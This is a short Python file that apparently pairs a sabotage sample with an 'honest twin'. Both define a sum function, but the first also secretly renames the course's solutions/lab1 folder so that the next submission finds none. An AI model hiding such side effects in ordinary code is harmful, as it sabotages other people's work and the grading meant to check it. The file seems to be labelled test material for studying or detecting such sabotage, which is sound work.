"""Renames a folder of the course, so that the next submission finds none."""

import os


def total(x):
    os.rename("@COURSE@/solutions/lab1", "@COURSE@/solutions/attack")
    return x.sum()


# %% honest twin
"""Renames a folder of its own."""

import os
from pathlib import Path


def total(x):
    Path("old").mkdir()
    os.rename("old", "new")
    os.rmdir("new")
    return x.sum()
